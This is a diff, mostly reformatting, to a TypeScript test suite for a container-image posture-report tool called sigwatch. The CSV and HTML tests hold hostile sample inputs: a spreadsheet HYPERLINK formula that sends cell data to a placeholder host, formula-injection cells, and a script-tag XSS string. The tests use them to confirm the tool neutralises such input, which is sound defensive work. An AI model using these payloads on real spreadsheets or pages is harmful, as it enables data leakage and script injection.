@@ -66,7 +66,14 @@ securityHub:
 const digest = (n: number) => `sha256:${n.toString(16).padStart(64, '0')}`;
 const iso = (daysAgo: number) => new Date(TEST_EPOCH - daysAgo * 86_400_000).toISOString();
 
-function verdict(n: number, account: string, region: string, repository: string, v: VerdictRecord['verdict'], over: Partial<VerdictRecord> = {}): VerdictRecord {
+function verdict(
+  n: number,
+  account: string,
+  region: string,
+  repository: string,
+  v: VerdictRecord['verdict'],
+  over: Partial<VerdictRecord> = {},
+): VerdictRecord {
   return {
     account,
     region,
@@ -112,9 +119,20 @@ describe('posture report: the model', () => {
     assert.equal(r.schemaVersion, REPORT_SCHEMA_VERSION);
     assert.deepEqual(r.totals, { images: 10, admit: 5, deny: 3, warn: 1, error: 1 });
     assert.deepEqual(
-      r.groups.map((g) => [g.group, g.counts.images, g.teams.map((t) => [t.team, t.accounts.map((a) => `${a.account}/${a.region}:${a.repositories.map((x) => x.repository).join('+')}`)])]),
+      r.groups.map((g) => [
+        g.group,
+        g.counts.images,
+        g.teams.map((t) => [t.team, t.accounts.map((a) => `${a.account}/${a.region}:${a.repositories.map((x) => x.repository).join('+')}`)]),
+      ]),
       [
-        ['acme', 7, [['payments', [`${PAYMENTS}/eu-west-1:payments/api+payments/web`, `${PAYMENTS}/us-east-1:payments/api`]], ['retail', [`${RETAIL}/eu-west-1:retail/cart+retail/shop`]]]],
+        [
+          'acme',
+          7,
+          [
+            ['payments', [`${PAYMENTS}/eu-west-1:payments/api+payments/web`, `${PAYMENTS}/us-east-1:payments/api`]],
+            ['retail', [`${RETAIL}/eu-west-1:retail/cart+retail/shop`]],
+          ],
+        ],
         ['globex', 2, [['globex-sec', [`${GLOBEX}/eu-west-1:globex/etl`]]]],
         [UNASSOCIATED, 1, [['(no team)', [`${STRANGER}/eu-west-1:stray/thing`]]]],
       ],
@@ -132,7 +150,13 @@ describe('posture report: the model', () => {
         ['warn', 'retail/shop', iso(5)],
       ],
     );
-    assert.deepEqual(r.trend.map((p) => [p.runId, p.counts.deny]), [['reverify-1', 3], ['reverify-2', 3]]);
+    assert.deepEqual(
+      r.trend.map((p) => [p.runId, p.counts.deny]),
+      [
+        ['reverify-1', 3],
+        ['reverify-2', 3],
+      ],
+    );
   });
 
   it('a verdict stored before `since` existed counts as failing since its verification', () => {
@@ -169,7 +193,12 @@ describe('posture report: formats', () => {
     const html = renderHtml(buildPosture(many, { generatedAt: iso(0) }));
     assert.equal((html.match(/<tr class="failing"/g) ?? []).length, MAX_HTML_FAILING);
     assert.ok(html.includes(`The first ${MAX_HTML_FAILING} are listed here; the JSON and CSV files list all ${MAX_HTML_FAILING + 7}.`));
-    assert.equal(renderCsv(buildPosture(many, { generatedAt: iso(0) })).split('\r\n').filter(Boolean).length, MAX_HTML_FAILING + 8);
+    assert.equal(
+      renderCsv(buildPosture(many, { generatedAt: iso(0) }))
+        .split('\r\n')
+        .filter(Boolean).length,
+      MAX_HTML_FAILING + 8,
+    );
   });
 
   it('CSV: RFC 4180 quoting, CRLF line ends, and cells a spreadsheet would run as formulas neutralised', () => {
@@ -182,7 +211,14 @@ describe('posture report: formats', () => {
     assert.equal(csvField('say "hi"'), '"say ""hi"""');
     assert.equal(csvField('two\nlines'), '"two\nlines"');
     assert.equal(csvField(formula), `"'=HYPERLINK(""https://example.invalid/?leak=""&A1,""click"")"`);
-    for (const [cell, safe] of [['+SUM(1,2)', `"'+SUM(1,2)"`], ['-1+2', `'-1+2`], ['@cmd', `'@cmd`], ['\tx', `'\tx`], ['\rx', `"'\rx"`]] as const) assert.equal(csvField(cell), safe);
+    for (const [cell, safe] of [
+      ['+SUM(1,2)', `"'+SUM(1,2)"`],
+      ['-1+2', `'-1+2`],
+      ['@cmd', `'@cmd`],
+      ['\tx', `'\tx`],
+      ['\rx', `"'\rx"`],
+    ] as const)
+      assert.equal(csvField(cell), safe);
     // The one failing row: its reasons cell starts with the hostile reason, which starts with a quote, so it is quoted.
     assert.equal(lines.length, 3);
     assert.ok(lines[1]!.includes(`"team/<script>alert(""repo"")</script>"`));
@@ -205,13 +241,25 @@ describe('posture report: formats', () => {
     const text = JSON.stringify(VERDICTS);
     assert.equal(parseVerdictsFile(text, 'f.json').verdicts.length, 10);
     assert.equal(parseVerdictsFile(VERDICTS.map((v) => JSON.stringify(v)).join('\n'), 'f.jsonl').verdicts.length, 10);
-    const withRuns = parseVerdictsFile(JSON.stringify({ verdicts: VERDICTS, runs: [{ runId: 'r1', at: iso(1), counts: { images: 1, admit: 1, deny: 0, warn: 0, error: 0 } }] }), 'f.json');
+    const withRuns = parseVerdictsFile(
+      JSON.stringify({ verdicts: VERDICTS, runs: [{ runId: 'r1', at: iso(1), counts: { images: 1, admit: 1, deny: 0, warn: 0, error: 0 } }] }),
+      'f.json',
+    );
     assert.equal(withRuns.runs.length, 1);
     const bad = [...VERDICTS];
     bad[3] = { ...bad[3]!, verdict: 'maybe' as 'admit' };
-    assert.throws(() => parseVerdictsFile(JSON.stringify({ verdicts: bad }), 'f.json'), /f\.json: verdicts\[3\]\.verdict: expected one of admit, deny, warn, error, got "maybe"/);
-    assert.throws(() => parseVerdictsFile(JSON.stringify([{ ...VERDICTS[0], account: '12' }]), 'f.json'), /f\.json: \[0\]\.account: expected a 12-digit AWS account id/);
-    assert.throws(() => parseVerdictsFile(JSON.stringify(buildPosture(VERDICTS, { generatedAt: iso(0) })), 'r.json'), /r\.json: a posture report, not verdicts/);
+    assert.throws(
+      () => parseVerdictsFile(JSON.stringify({ verdicts: bad }), 'f.json'),
+      /f\.json: verdicts\[3\]\.verdict: expected one of admit, deny, warn, error, got "maybe"/,
+    );
+    assert.throws(
+      () => parseVerdictsFile(JSON.stringify([{ ...VERDICTS[0], account: '12' }]), 'f.json'),
+      /f\.json: \[0\]\.account: expected a 12-digit AWS account id/,
+    );
+    assert.throws(
+      () => parseVerdictsFile(JSON.stringify(buildPosture(VERDICTS, { generatedAt: iso(0) })), 'r.json'),
+      /r\.json: a posture report, not verdicts/,
+    );
     assert.throws(() => parseVerdictsFile('{"images": 3}', 'x.json'), /x\.json: expected a list of verdict records/);
     assert.equal(parseVerdictsFile(JSON.stringify(VERDICTS[0]), 'one.jsonl').verdicts.length, 1);
   });
@@ -232,7 +280,8 @@ describe('posture report: sigwatch report, from a verdict store, through a real 
     // An expired verdict (TTL passed, not yet deleted by DynamoDB) is not in the report.
     await new VerdictStore(dynamo.client, table, { now: () => TEST_EPOCH - 40 * 86_400_000 }).put(verdict(99, GLOBEX, 'eu-west-1', 'globex/gone', 'deny'));
     const history = new RunHistory(dynamo.client, table, { now: testNow });
-    for (let d = 5; d >= 1; d--) await history.record({ runId: `reverify-day-${d}`, at: iso(d), counts: { images: 10, admit: 10 - d, deny: d, warn: 0, error: 0 } });
+    for (let d = 5; d >= 1; d--)
+      await history.record({ runId: `reverify-day-${d}`, at: iso(d), counts: { images: 10, admit: 10 - d, deny: d, warn: 0, error: 0 } });
   });
   after(async () => {
     await dynamo.stop();
@@ -243,15 +292,25 @@ describe('posture report: sigwatch report, from a verdict store, through a real 
     const out = join(work, 'out');
     let stdout = '';
     let stderr = '';
-    const code = await reportCommand(['--verdicts', `dynamodb://${table}`, '--config', join(work, 'sigwatch.yaml'), '--out', out, '--runs', '4'], { stdout: (s) => (stdout += `${s}\n`), stderr: (s) => (stderr += `${s}\n`), now: testNow }, { dynamo: dynamo.client });
+    const code = await reportCommand(
+      ['--verdicts', `dynamodb://${table}`, '--config', join(work, 'sigwatch.yaml'), '--out', out, '--runs', '4'],
+      { stdout: (s) => (stdout += `${s}\n`), stderr: (s) => (stderr += `${s}\n`), now: testNow },
+      { dynamo: dynamo.client },
+    );
     assert.equal(code, 0, stderr);
     const paths = stdout.trim().split('\n');
-    assert.deepEqual(paths, ['report.html', 'report.json', 'report.csv'].map((f) => join(out, f)));
+    assert.deepEqual(
+      paths,
+      ['report.html', 'report.json', 'report.csv'].map((f) => join(out, f)),
+    );
     for (const p of paths) assert.ok(statSync(p).size > 0, p);
     assert.match(stderr, /10 images \(5 admit, 3 deny, 1 error, 1 warn\), 3 groups/);
 
     const json = JSON.parse(readFileSync(paths[1]!, 'utf8')) as PostureReport;
-    assert.deepEqual(json.trend.map((p) => p.runId), ['reverify-day-3', 'reverify-day-2', 'reverify-day-1', 'now']);
+    assert.deepEqual(
+      json.trend.map((p) => p.runId),
+      ['reverify-day-3', 'reverify-day-2', 'reverify-day-1', 'now'],
+    );
     assert.equal(readFileSync(paths[2]!, 'utf8').split('\r\n').filter(Boolean).length, 1 + 5);
 
     const url = pathToFileURL(paths[0]!).href;
@@ -284,8 +343,17 @@ describe('posture report: sigwatch report, from a verdict store, through a real 
       assert.deepEqual(seen.totals, { images: '10', admit: '5', deny: '3', error: '1', warn: '1' });
       assert.deepEqual(seen.groups, ['acme', 'globex', UNASSOCIATED]);
       assert.deepEqual(seen.teams, ['acme/payments', 'acme/retail', 'globex/globex-sec', `${UNASSOCIATED}/(no team)`]);
-      assert.deepEqual(seen.accounts, [`${PAYMENTS}/eu-west-1`, `${PAYMENTS}/us-east-1`, `${RETAIL}/eu-west-1`, `${GLOBEX}/eu-west-1`, `${STRANGER}/eu-west-1`]);
-      assert.deepEqual(seen.failing.map((f) => f.verdict), ['deny', 'deny', 'deny', 'error', 'warn']);
+      assert.deepEqual(seen.accounts, [
+        `${PAYMENTS}/eu-west-1`,
+        `${PAYMENTS}/us-east-1`,
+        `${RETAIL}/eu-west-1`,
+        `${GLOBEX}/eu-west-1`,
+        `${STRANGER}/eu-west-1`,
+      ]);
+      assert.deepEqual(
+        seen.failing.map((f) => f.verdict),
+        ['deny', 'deny', 'deny', 'error', 'warn'],
+      );
       const first = seen.failing[0]!.cells;
       assert.deepEqual(first.slice(0, 3), ['deny', 'acme', 'payments']);
       assert.ok(first[4]!.startsWith('payments/api') && first[4]!.includes(digest(2)), first[4]);
@@ -360,7 +428,7 @@ describe('posture report: sigwatch report, from a verdict store, through a real 
 });
 
 describe('npm run demo', () => {
-  it('ends by writing the report of its own verdicts and printing the HTML file\'s path', () => {
+  it("ends by writing the report of its own verdicts and printing the HTML file's path", () => {
     const cwd = mkdtempSync(join(tmpdir(), 'sigwatch-demo-cwd-'));
     try {
       const out = spawnSync(process.execPath, [new URL('../scripts/demo.ts', import.meta.url).pathname], { cwd, encoding: 'utf8', timeout: 120_000 });
